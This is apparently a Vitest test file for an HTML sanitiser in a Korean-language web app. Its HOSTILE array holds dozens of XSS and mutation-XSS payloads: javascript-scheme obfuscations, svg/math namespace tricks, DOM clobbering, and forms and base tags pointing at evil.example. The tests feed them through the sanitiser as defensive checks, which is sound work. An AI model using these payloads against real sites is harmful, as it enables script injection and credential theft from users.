import { expect, test } from 'vitest';
import { cleanHtml, hasText } from './clean-html.ts';
import { readFirstTexts } from './first-start.ts';

test('text, tables, lists and links stay', () => {
  const html =
    '<p>내일 <strong>06:00</strong></p><table><tbody><tr><th>일시</th><td colspan="2">토</td></tr></tbody></table><ul><li>하나</li></ul>';
  expect(cleanHtml(html)).toBe(html);
  expect(cleanHtml('<h1>점검</h1>')).toBe('<h3>점검</h3>');
});

test('a link within the site stays as it is, one to another site opens apart and is told nothing', () => {
  expect(cleanHtml('<a href="/more/limits" onclick="x()">한도</a>')).toBe('<a href="/more/limits">한도</a>');
  expect(cleanHtml('<a href="https://example.com/a">밖</a>')).toBe(
    '<a href="https://example.com/a" target="_blank" rel="noopener noreferrer nofollow">밖</a>',
  );
});

test('only pictures of this site stay', () => {
  const own = `/api/content/picture/${'0a'.repeat(16)}`;
  expect(cleanHtml(`<img src="${own}" alt="그림" onerror="x()">`)).toBe(`<img src="${own}" alt="그림" />`);
  for (const src of [
    'https://evil.example/pixel.gif',
    '//evil.example/x',
    'data:image/png;base64,AA',
    '/api/content/picture/../../me',
    '/api/dnw/cancel?dnwHistoryId=1',
  ])
    expect(cleanHtml(`<p>앞<img src="${src}">뒤</p>`)).toBe('<p>앞뒤</p>');
});

// The published classes of attacks on sanitisers: mutation by the parser, foreign namespaces, raw text, depth,
// clobbering, prototype pollution, templates, and every spelling of a scheme.
const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<plaintext><script>alert(1)</script>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<a href="javascript:alert(1)">글</a>',
  '<a href=" jAvAsCrIpT:alert(1)">글</a>',
  '<a href="java\nscript:alert(1)">글</a>',
  '<a href="java\tscript:alert(1)">글</a>',
  '<a href="java\u0000script:alert(1)">글</a>',
  '<a href="&#106;avascript&colon;alert(1)">글</a>',
  '<a href="\u0001javascript:alert(1)">글</a>',
  '<a href="data:text/html,<script>alert(1)</script>">글</a>',
  '<a href="vbscript:msgbox(1)">글</a>',
  '<a href="//evil.example">글</a><a href="/\\evil.example">글</a><a href="\\\\evil.example">글</a>',
  '<p onclick="alert(1)" style="position:fixed;inset:0;z-index:99" class="shell" id="root">글</p>',
  '<div style="background:url(javascript:alert(1))">글</div>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x"><base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><link rel=stylesheet href=//evil.example>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">가기</button></form>',
  '<dialog open>가짜</dialog><p popover id=x>글</p>',
  '<custom-element onfocus=alert(1) tabindex=0 autofocus>글</custom-element>',
  '<!--<img src=x onerror=alert(1)>--><p>글<!-- > <script>alert(1)</script> --></p>',
  '<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>',
  '<p id="__proto__" name="constructor">글</p><a id="cookie" name="body" href="/x">글</a>',
  '<p>{{constructor.constructor("alert(1)")()}}<%= alert(1) %></p>',
  `${'<div>'.repeat(3_000)}<img src=x onerror=alert(1)>`,
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)><html onmouseover=alert(1)>',
  '<td colspan="1000000" rowspan="-1">글</td>',
];

const KEPT =
  /^<\/?(p|br|hr|b|strong|i|em|u|s|small|sub|sup|span|div|blockquote|pre|code|ul|ol|li|table|thead|tbody|tfoot|tr|th|td|a|h3|h4|h5|h6)\b/;

test.each(HOSTILE)('nothing of %j is left that could run', (html) => {
  const cleaned = cleanHtml(html);
  for (const [tag] of cleaned.matchAll(/<[^>]*>/g)) {
    expect(tag).toMatch(KEPT);
    for (const [, name = ''] of tag.matchAll(/\s([\w-]+)=/g))
      expect(['href', 'target', 'rel']).toContain(name);
    expect(tag).not.toMatch(/javascript|vbscript|data:|\/\/evil|\\/i);
  }
  // What is stored is cleaned once more when it is shown, and that must change nothing.
  expect(cleanHtml(cleaned)).toBe(cleaned);
  expect(cleaned.split('<div>').length).toBeLessThan(60);
});

test('a text of forbidden tags only has no text', () => {
  expect(hasText(cleanHtml('<script>alert(1)</script><p> &nbsp;</p>'))).toBe(false);
  expect(hasText(cleanHtml('<p>글</p>'))).toBe(true);
});

test('the texts of a first start lose nothing when they are cleaned', () => {
  for (const { ko, en } of readFirstTexts())
    for (const { html } of [ko, en])
      expect(cleanHtml(html).replaceAll(/<\/?tbody>/g, '')).toBe(html.replaceAll(/<\/?tbody>/g, ''));
});
